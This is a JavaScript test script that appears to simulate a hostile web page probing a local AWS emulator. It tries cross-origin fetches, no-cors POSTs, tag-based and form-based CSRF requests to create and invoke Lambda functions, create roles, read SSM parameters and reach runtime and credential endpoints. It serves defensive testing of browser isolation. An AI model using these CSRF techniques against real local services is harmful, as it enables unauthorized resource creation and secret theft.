// Runs in a browser: tries all that a page can do against local AWS, and returns what it could read.
// `status` is 0 where the browser hides it. `facts` are those of hostile-page.ts.
window.attack = async ({ base, codePath, makeRole, makeFunction, runtime, provider }) => {
  const seen = [];
  const functions = `${base}/2015-03-31/functions`;

  async function send(url, options) {
    try {
      const answer = await fetch(url, options);
      seen.push({ what: url, status: answer.status, text: await answer.text() });
    } catch {
      // The browser hides the answer, as it should.
    }
  }

  const whenOver = (element) =>
    new Promise((resolve) => {
      element.onload = resolve;
      element.onerror = resolve;
    });

  function make(tag, attributes) {
    return Object.assign(document.createElement(tag), attributes);
  }

  function look(what, frame) {
    try {
      seen.push({ what, status: 0, text: frame.contentDocument.documentElement.textContent });
    } catch {
      // The frame belongs to another origin, as it should.
    }
  }

  async function embed(tag, attributes) {
    const element = make(tag, attributes);
    const over = whenOver(element);
    document.body.append(element);
    await over;
    if (tag === "iframe") look(attributes.src, element);
  }

  async function submit(attributes, fields) {
    const frame = make("iframe", { name: `frame${Math.random()}` });
    document.body.append(frame);
    const form = make("form", { ...attributes, target: frame.name });
    for (const [name, value] of Object.entries(fields)) form.append(make("input", { name, value }));
    document.body.append(form);
    const over = whenOver(frame);
    form.submit();
    await over;
    look(attributes.action, frame);
  }

  async function talk(channel) {
    const isOpen = await new Promise((resolve) => {
      channel.onopen = () => resolve(true);
      channel.onerror = () => resolve(false);
    });
    channel.close();
    if (isOpen) seen.push({ what: channel.url, status: 200, text: "" });
  }

  const text = { "content-type": "text/plain" };
  const json = { "content-type": "application/x-amz-json-1.1", "x-amz-target": "AmazonSSM.GetParameter" };
  const silently = { mode: "no-cors", referrerPolicy: "no-referrer" };
  const fields = Object.fromEntries(new URL(makeRole).searchParams);

  await send(`${functions}/`);
  await send(`${functions}/hello`);
  await send(`${base}/_local/info`);
  await send(`${base}${codePath}`);
  await send(functions, { method: "POST", headers: text, body: makeFunction });
  await send(functions, { ...silently, method: "POST", headers: text, body: makeFunction, keepalive: true });
  await send(`${functions}/hello/invocations`, { ...silently, method: "POST", body: "{}" });
  await send(`${functions}/hello/configuration`, { method: "PUT", body: '{"Timeout":9}' });
  await send(`${functions}/hello`, { method: "DELETE" });
  await send(base, { method: "POST", headers: json, body: '{"Name":"/own","WithDecryption":true}' });
  await send(makeRole);
  await send(makeRole, silently);
  await embed("img", { referrerPolicy: "no-referrer", src: makeRole });
  await embed("script", { src: makeRole });
  await embed("link", { rel: "stylesheet", href: makeRole });
  await embed("iframe", { referrerPolicy: "no-referrer", src: makeRole });
  await embed("iframe", { src: `${base}/_local/info` });
  await submit({ action: base, method: "GET" }, fields);
  await submit({ action: base, method: "POST" }, fields);
  await submit({ action: functions, method: "POST", enctype: "text/plain" }, { [makeFunction]: "" });
  await talk(new WebSocket(base.replace("http", "ws")));
  await talk(new EventSource(`${functions}/`));
  await send(`${runtime}/init/error`, { ...silently, method: "POST", body: "{}" });
  await send(`${runtime}/invocation/next`);
  await submit({ action: `${runtime}/init/error`, method: "POST" }, {});
  await send(provider, { ...silently, method: "POST", body: "{}" });
  await send(provider);
  return seen;
};
